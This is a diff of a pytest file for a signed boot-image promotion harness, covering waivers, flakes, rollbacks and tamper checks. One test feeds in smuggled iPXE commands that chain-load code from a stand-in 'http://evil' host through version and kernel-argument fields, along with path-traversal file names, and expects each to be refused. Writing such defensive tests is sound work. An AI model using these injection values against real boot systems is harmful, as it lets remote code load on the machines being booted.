@@ -17,12 +17,13 @@ from pathlib import Path
 
 import pytest
 
-from harness import attest, digest
+from harness import attest, digest, record
+from harness.artifacts import load_artifacts
 from harness.attest import Refused
 from harness.errors import BootproofError, HostError, Subject, UsageError
 from harness.promote import NotPromoted, promote, roll_back
-from harness.streams import Tree
-from harness.verdict import Finding, Outcome, Rate, Traits, Verdict
+from harness.streams import Tree, read_pointer
+from harness.verdict import Finding, Outcome, Traits, Verdict
 
 from .proven import NOW, PHASES, TRAITS, Proven, with_coverage
 
@@ -130,36 +131,100 @@ def test_what_a_policy_demands_more_is_named_with_the_command_that_proves_it(pro
     assert all(words in said for words in DEMANDED[demand]), said
 
 
-WAIVER = '[[streams.stable.waive]]\nfinding = "unit-failed"\nby = "ann"\nreason = "known"\nuntil = {until}\n'
+WAIVER = '[[streams.stable.waive]]\n{what}\nby = "ann"\nreason = "known"\nuntil = {until}\n'
+UNIT_FAILED = 'finding = "unit-failed"'
+TEST = "tests/image/test_x.py::test_x[site]"
+
+
+def waiver(what: str = UNIT_FAILED, until: str = "2026-12-31") -> str:
+    return WAIVER.format(what=what, until=until)
+
+
+def with_failed(verdict: Verdict, *findings: Finding, checks: dict[str, tuple[str, ...]]) -> Verdict:
+    """It failed, with these findings and these checks by the tests that failed."""
+    verdict = replace(verdict, outcome=Outcome.FAILED, findings=findings)
+    return with_coverage(verdict, failed=tuple(checks), failed_tests=checks)
 
 
 def test_a_finding_is_waived_until_that_day_and_fails_from_then_on(proven: Proven) -> None:
-    verdict = with_coverage(failed(proven.verdict(proven.artifacts())), failed=("services",))
-    proven.demand(WAIVER.format(until="2026-11-20"))
+    verdict = failed(proven.verdict(proven.artifacts()))
+    proven.demand(waiver(until="2026-11-20"))
     assert "the waiver of unit-failed by ann ended on 2026-11-20" in why_not(proven, verdict)
 
-    proven.demand(WAIVER.format(until="2026-11-21"))
+    proven.demand(waiver(until="2026-11-21"))
+    assert proven.promote("1", verdict).entry.version == "1"
+
+
+def test_a_check_is_waived_with_what_its_tests_found_and_nothing_else(proven: Proven) -> None:
+    verdict = proven.verdict(proven.artifacts())
+    other = finding("check-failed", where="tests/image/test_y.py::test_y[site]")
+    proven.demand(waiver('check = "ssh"'))
+
+    assert "test_y" in why_not(
+        proven, with_failed(verdict, finding("check-failed", where=TEST), other, checks={"ssh": (TEST,)})
+    )
+    assert proven.promote(
+        "1", with_failed(verdict, finding("check-failed", where=TEST), checks={"ssh": (TEST,)})
+    ).entry.version == "1"  # fmt: skip
+
+
+def test_a_waived_finding_excuses_no_check_that_failed_otherwise(proven: Proven) -> None:
+    verdict = proven.verdict(proven.artifacts())
+    proven.demand(waiver())
+
+    said = why_not(proven, with_failed(verdict, finding(), checks={"survival": (TEST,), "identity": ()}))
+
+    assert "failed: survival, identity" in said
+
+
+def test_a_failed_test_is_waived_by_name_only(proven: Proven) -> None:
+    proven.demand(waiver('finding = "check-failed"'))
+    with pytest.raises(UsageError, match="every test that fails is a 'check-failed'; name the test"):
+        proven.promote()
+
+    proven.demand(waiver('finding = "check-failed"\nwhere = "test_x"'))
+    verdict = with_failed(
+        proven.verdict(proven.artifacts()), finding("check-failed", where=TEST), checks={"ssh": (TEST,)}
+    )
     assert proven.promote("1", verdict).entry.version == "1"
 
 
 def test_inconclusive_is_never_waived(proven: Proven) -> None:
-    verdict = replace(proven.verdict(proven.artifacts()), findings=(finding("unit-failed", Subject.HOST),))
-    proven.demand(WAIVER.format(until="2026-12-31"))
+    verdict = proven.verdict(proven.artifacts())
+    proven.demand(waiver() + waiver('check = "survival"'))
 
-    assert "the verdict is inconclusive" in why_not(proven, verdict)
+    assert "inconclusive" in why_not(proven, replace(verdict, findings=(finding("unit-failed", Subject.HOST),)))
+    assert "inconclusive" in why_not(proven, replace(verdict, outcome=Outcome.INCONCLUSIVE))
+    assert "not proven: survival" in why_not(proven, with_coverage(verdict, missing=("survival",)))
+    assert "not proven: anything" in why_not(proven, with_coverage(verdict, passed=()))
 
 
-def test_a_flake_fails_unless_the_policy_allows_it(proven: Proven) -> None:
-    test = "tests/image/test_x.py::test_x[site]"
-    flaky = finding("flake", where=test), finding("check-failed", where=test.replace("]", "-boot2]"))
-    verdict = replace(
-        with_coverage(proven.verdict(proven.artifacts()), failed=("services",)), outcome=Outcome.FAILED,
-        findings=flaky, rates=(Rate(check="services", passed=2, repeats=3, low=0.2, high=0.9),),
-    )  # fmt: skip
+def test_a_flake_fails_unless_the_policy_allows_it_and_then_excuses_nothing_else(proven: Proven) -> None:
+    second = TEST.replace("]", "-boot~2]")
+    flaky = finding("flake", where=TEST), finding("check-failed", where=second)
+    verdict = with_failed(proven.verdict(proven.artifacts()), *flaky, checks={"services": (second,)})
+    verdict = with_coverage(verdict, flaky_tests=(second,))
     assert "[flake]" in why_not(proven, verdict)
 
     proven.demand('flakes = "allow"')
+    panic = replace(verdict, findings=(*flaky, finding("kernel-panic", where=second)))
+    assert "[kernel-panic]" in why_not(proven, panic)
     assert proven.promote("1", verdict).entry.version == "1"
+
+
+def test_boots_of_earlier_runs_and_the_same_boot_twice_do_not_count(proven: Proven) -> None:
+    verdict = proven.verdict(proven.artifacts())
+    proven.demand("boots = 3")
+
+    earlier = tuple(replace(boot, run="/runs/earlier") for boot in verdict.boots)
+    assert "0 boots by direct became ready" in why_not(proven, replace(verdict, boots=earlier))
+    assert "1 boots by direct became ready" in why_not(proven, replace(verdict, boots=verdict.boots[:1] * 3))
+
+
+def test_what_is_carried_is_not_carried_again_by_a_worse_verdict(proven: Proven) -> None:
+    proven.promote("1")
+
+    assert "something is wrong" in why_not(proven, failed(proven.verdict(proven.artifacts())))
 
 
 def traits(**changes: object) -> Traits:
@@ -255,9 +320,9 @@ def test_a_policy_that_is_not_signed_or_was_changed_is_refused(proven: Proven) -
         ("boot = 3", "streams.stable.boot: unknown"),
         ("cuts = -1", "streams.stable.cuts: -1 is no number"),
         ('flakes = "retry"', "streams.stable.flakes: 'retry' is neither"),
-        (WAIVER.format(until='"soon"'), "streams.stable.waive.until: missing, or no date"),
-        (WAIVER.format(until="2026-12-31").replace('reason = "known"\n', ""), "waive.reason: missing or empty"),
-        (WAIVER.format(until="2026-12-31").replace('"ann"', '" "'), "waive.by: missing or empty"),
+        (waiver(until='"soon"'), "streams.stable.waive.until: missing, or no date"),
+        (waiver().replace('reason = "known"\n', ""), "waive.reason: missing or empty"),
+        (waiver().replace('"ann"', '" "'), "waive.by: missing or empty"),
         ("budget = { boot = 3 }", "budget.boot: unknown"),
         ("= 3", "TOML: "),
     ],
@@ -307,7 +372,7 @@ def test_a_flipped_bit_anywhere_is_refused(proven: Proven, seed: int) -> None:
     loose.write_bytes(proof.attestation)
     stream = proven.tree.root / "streams" / "site" / "stable"
     files = [*artifacts.folder.iterdir(), loose, proven.policy, proven.policy.with_name("policy.toml.sig")]
-    files += [stream / "stream.json", stream / "history.jsonl"]
+    files += [stream / "stream.json", stream / "history.jsonl", stream / "boot.ipxe"]
     flip(files[seed % len(files)], draw)
 
     with pytest.raises(BootproofError):
@@ -315,6 +380,48 @@ def test_a_flipped_bit_anywhere_is_refused(proven: Proven, seed: int) -> None:
             proven.tree, "site", "stable", artifacts, replace(proof, attestation=loose.read_bytes()), proven.keeper()
         )
     assert os.readlink(stream) == ".generations/stable-1"
+
+
+def test_names_and_scripts_lead_nowhere(proven: Proven) -> None:
+    """From a manifest into the tree, from a version into iPXE, from a pointer into paths."""
+    for changes, said in (
+        ({"version": "1\nchain http://evil/x"}, "would mean something to iPXE"),
+        ({"kernel_arguments": ("quiet", "||", "chain", "http://evil")}, "would mean something to iPXE"),
+    ):
+        shutil.rmtree(proven.artifacts().folder)
+        folder = proven.artifacts().folder
+        record.write(folder / "manifest.json", replace(load_artifacts(folder).manifest, **changes))
+        with pytest.raises(Refused, match=said):
+            proven.promote("1", proven.verdict(load_artifacts(folder)))
+
+    manifest = load_artifacts(proven.artifacts("2").folder).manifest
+    files = {**manifest.files, "../../streams/site/beta.json": manifest.files["vmlinuz"]}
+    record.write(proven.artifacts("2").folder / "manifest.json", replace(manifest, files=files))
+    with pytest.raises(UsageError, match="is no name of a file of artifacts"):
+        load_artifacts(proven.folder / "artifacts-2")
+
+
+def test_a_pointer_from_elsewhere_is_believed_only_as_it_was_written(proven: Proven) -> None:
+    proven.promote("1")
+    text = (proven.tree.root / "streams" / "site" / "stable.json").read_bytes()
+    assert read_pointer(text, "there").entry.version == "1"
+
+    plain = json.loads(text)
+    plain["stream"]["entry"]["attestation"] = "../../../escaped"
+    plain["sha256"] = digest.of_value(plain["stream"])
+    for spoilt in (json.dumps(plain, indent=2).encode() + b"\n", b"[" * 200_000, b'{"stream": 3}', text[:-1]):
+        with pytest.raises(Refused, match="was changed by hand, or sent in part"):
+            read_pointer(spoilt, "there")
+
+
+def test_a_key_may_be_revoked_and_the_stream_goes_on(proven: Proven) -> None:
+    proven.promote("1")
+    proven.policy.write_text(proven.policy.read_text().replace(proven.public("ci"), proven.public("ci2")))
+    attest.sign_file(proven.policy, attest.read_signer(str(proven.key("keeper"))))
+    artifacts = proven.artifacts("2")
+
+    proof = proven.proof(artifacts, proven.verdict(artifacts), key="ci2")
+    assert promote(proven.tree, "site", "stable", artifacts, proof, proven.keeper()).entry.version == "2"
 
 
 # The tree
@@ -325,9 +432,14 @@ def test_a_rollback_goes_back_and_looks_at_the_bytes_again(proven: Proven) -> No
         proven.promote(version)
 
     assert roll_back(proven.tree, "site", "stable", proven.keeper()).entry.version == "2"
+    assert roll_back(proven.tree, "site", "stable", proven.keeper()).entry.version == "1"
+    with pytest.raises(UsageError, match="it carried"):
+        roll_back(proven.tree, "site", "stable", proven.keeper())
+    two = proven.artifacts("2").digest
+    assert roll_back(proven.tree, "site", "stable", proven.keeper(), to=two[:8]).entry.version == "2"
     one = proven.artifacts("1").digest
     assert roll_back(proven.tree, "site", "stable", proven.keeper(), to=one[:8]).entry.version == "1"
-    assert [entry.action for entry in proven.tree.history("site", "stable")] == ["promote"] * 3 + ["rollback"] * 2
+    assert [entry.action for entry in proven.tree.history("site", "stable")] == ["promote"] * 3 + ["rollback"] * 4
     with pytest.raises(UsageError, match="never carried 'ffff'"):
         roll_back(proven.tree, "site", "stable", proven.keeper(), to="ffff")
     flip(proven.tree.artifacts(proven.artifacts("2").digest) / "rootfs.squashfs", random.Random(1))
@@ -340,7 +452,7 @@ def test_half_of_an_upload_is_refused(proven: Proven) -> None:
     place.mkdir(parents=True)
     shutil.copy(proven.artifacts().kernel, place)
 
-    with pytest.raises(Refused, match="is missing; half of it was copied"):
+    with pytest.raises(Refused, match="is missing; somebody took it away"):
         proven.promote()
     assert proven.tree.current("site", "stable") is None
 
